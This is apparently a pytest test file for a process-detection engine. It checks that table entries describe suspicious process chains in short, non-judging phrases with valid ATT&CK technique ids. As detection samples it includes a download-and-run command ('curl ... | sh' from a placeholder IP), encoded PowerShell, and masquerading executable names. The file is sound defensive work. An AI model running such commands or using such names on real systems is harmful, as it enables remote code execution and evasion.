"""What the tables say of a process in words: a phrase for each entry, short enough for a line, and techniques where sound."""

from __future__ import annotations

import itertools
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from engine.knowledge import Location, Role, tables
from engine.knowledge.breaks import BY, STARTED, TOOLS
from engine.knowledge.locations import place
from engine.knowledge.names import name_contradiction
from engine.knowledge.pair_rules import STARTS
from engine.knowledge.tables import blocks, fingerprint, load, techniques
from engine.knowledge.telling import LEAVES, Aspect, tellings

WIDEST = 26
JUDGING = re.compile(r"anomal|suspicious|malicious|unusual", re.IGNORECASE)
NAMES = [
    "c:\\temp\\svchost.exe", "c:\\windows\\system32\\svch0st.exe", "c:\\users\\<u>\\invoice.pdf.exe", "c:\\temp\\powershell.exe",
    "c:\\users\\<u>\\x.scr", "c:\\users\\<u>\\data.dat", "c:\\users\\<u>\\noextension", "/tmp/report.pdf",
    "/dev/shm/kworker",
    "/tmp/a \u202e.sh", "/tmp/\x07.sh", "/tmp/b   .txt", "/tmp/sshd ", "/tmp/xkqzvwpt",
    "c:\\users\\<u>\\<uuid>.exe", "c:\\temp\\svchosst.exe",
    "c:\\temp\\msbuild.exe", "c:\\temp\\chrome.exe", "c:\\temp\\explorer.exe", "c:\\temp\\winword.exe", "/tmp/bash",
    "c:\\temp\\searchprotocolhosts.exe",
]  # fmt: skip


TOLD = [("rule", "commands"), *((key, "lineage") for key in ("break", "expected", "barren"))]
TOLD += [("starts", name) for names in STARTS.values() for name in names]
"""Tables whose entries have phrases: key and file."""


def entries() -> Iterator[tuple[str, str, str]]:
    """(where, phrase, why) of every entry that a finding can be told by; of those with a gap each of what fills it."""
    for key, name in TOLD:
        for block in blocks(key, (name,)):
            whats = itertools.product((*STARTED.values(), "a tool"), BY.values(), (*TOOLS.values(), "a tool"))
            for filled in {block["phrase"].format(what, by=by, tool=tool) for what, by, tool in whats}:
                yield f"{name}: {block['why']}", filled, block["why"]
    for block in load("names")["protected"]:
        yield f"names: {block['why']}", block["phrase"], block["why"]
    for block in load("renamed")["tool"]:
        yield f"renamed: {block['why']}", block["phrase"], block["why"]
    yield "names: kernel threads", load("names")["kernel_threads"]["phrase"], load("names")["kernel_threads"]["why"]
    for location in Location:
        known = place(location)
        if known.risk:
            yield location.name, known.phrase, known.why
    for kind, phrase in LEAVES.items():
        yield kind.name, phrase, "a role"
    for path in NAMES:
        found = name_contradiction(path)
        assert found.value, path
        yield path, found.phrase, found.reason


def test_every_entry_has_a_phrase_that_fits_into_a_line() -> None:
    assert [(where, phrase) for where, phrase, _ in entries() if not 8 <= cell_len(phrase) <= WIDEST] == []


def test_phrases_say_what_was_seen_and_not_what_to_think_of_it() -> None:
    assert [phrase for _, phrase, _ in entries() if JUDGING.search(phrase)] == []


def test_phrases_of_one_table_tell_its_entries_apart() -> None:
    for key, name in TOLD:
        counts = Counter((block["phrase"], block.get("os", name)) for block in blocks(key, (name,)) if key != "break")
        assert [phrase for phrase, count in counts.items() if count > 2] == []
        assert len(counts) >= 0.8 * counts.total()
    risky = [location for location in Location if place(location).risk]
    places = Counter((place(location).phrase, location < Location.LINUX_SYSTEM) for location in risky)
    assert [phrase for phrase, count in places.items() if count > 1] == []


@pytest.mark.parametrize("name", ["commands", "lineage", "names", "renamed", "locations_linux", "locations_windows"])
def test_techniques_are_ids_and_those_that_the_sentence_names(name: str) -> None:
    for value in load(name).values():
        for block in value if isinstance(value, list) else [value]:
            found = techniques(block)
            assert all(re.fullmatch(r"T1\d{3}(\.\d{3})?", one) for one in found)
            assert len(set(found)) == len(found)
            # Told twice they could come to differ.
            assert not ("techniques" in block and re.search(r"T\d{4}", block["why"]))


@pytest.mark.parametrize(
    ("pattern", "replacement", "same"),
    [
        (r'(?m)^(id|phrase|techniques|source) = ".*"$', r'\1 = "something else"', True),
        (r'(?m)^(id|phrase|techniques|source) = ".*"\n', "", True),
        (r"(?m)^weight = 0.5$", "weight = 0.6", False),
        (r"(?m)^parents = .*$", "parents = []", False),
    ],
)
def test_what_is_only_said_changes_no_score(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pattern: str, replacement: str, same: bool
) -> None:
    before = fingerprint()
    for path in tables.FOLDER.glob("*.toml"):
        (tmp_path / path.name).write_text(re.sub(pattern, replacement, path.read_text(encoding="utf-8")), encoding="utf-8")
    monkeypatch.setattr(tables, "FOLDER", tmp_path)
    assert (fingerprint.__wrapped__() == before) is same


def test_a_process_is_told_by_its_command_its_place_its_name_and_its_parent() -> None:
    said = tellings(("/usr/sbin/apache2", "/usr/bin/dash"), "sh -c 'curl -s http://192.0.2.7/x | sh'")
    assert [(one.part, one.phrase, one.techniques[:1]) for one in said[:2]] == [
        (Aspect.COMMAND, "runs a download at once", ("T1105",)),
        (Aspect.PAIR, "web server starts a shell", ("T1505.003",)),
    ]
    said = tellings(("/usr/bin/bash", "/tmp/.cache/kswapd0"))
    assert [(one.part, one.phrase) for one in said] == [
        (Aspect.NAME, "named like a kernel thread"),
        (Aspect.PLACE, "runs hidden in temp"),
    ]


def test_what_is_about_the_parent_says_so() -> None:
    said = tellings(("/tmp/.cache/kswapd0", "/usr/bin/dash"))
    assert {one.above for one in said if one.part in (Aspect.NAME, Aspect.PLACE)} == {1}


def test_a_renamed_shell_is_told_as_a_shell() -> None:
    steps = ("c:\\program files\\microsoft office\\winword.exe", "c:\\users\\<u>\\update.exe")
    openly = {(one.part, one.phrase) for one in tellings(steps, "update.exe -enc AAAA")}
    said = tellings(steps, "update.exe -enc AAAA", "PowerShell.EXE")
    first = said[0]
    assert (first.part, first.phrase, first.techniques[0]) == (Aspect.RENAMED, "runs renamed powershell", "T1036.003")
    more = {(one.part, one.phrase) for one in said[1:]}
    assert more - openly == {
        (Aspect.COMMAND, "runs encoded PowerShell"),
        (Aspect.PAIR, "document starts a shell"),
        (Aspect.ROLE, "ends in a shell"),
    }
    assert openly <= more


def test_a_child_of_a_renamed_shell_is_told_by_its_own_name() -> None:
    steps = ("c:\\users\\<u>\\update.exe", "c:\\windows\\system32\\whoami.exe")
    assert tellings(steps, "whoami", "whoami.exe") == tellings(steps, "whoami")


def test_the_phrase_of_a_break_names_what_was_started() -> None:
    server = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
    for name, phrase in (("cmd.exe", "web server starts a shell"), ("csc.exe", "web server starts a tool")):
        said = tellings((server, f"c:\\windows\\system32\\{name}"))
        assert phrase in [one.phrase for one in said if one.part is Aspect.PAIR]


NAMED = st.none() | st.text(max_size=200) | st.sampled_from(["Cmd.Exe", "PowerShell.EXE.MUI", "screenconnect.windowsclient.exe"])


@given(st.lists(st.text(max_size=40) | st.just("c:\\x.exe"), max_size=4), st.none() | st.text(max_size=200), NAMED)
def test_any_texts_are_told_of(steps: list[str], command_line: str | None, original: str | None) -> None:
    said = tellings(steps, command_line, original)
    assert [one.weight for one in said] == sorted((one.weight for one in said), reverse=True)
    assert all(0 < one.weight <= 2 and 0 < cell_len(one.phrase) <= WIDEST for one in said)


def test_roles_that_are_told_of_are_roles() -> None:
    assert set(LEAVES) <= set(Role)
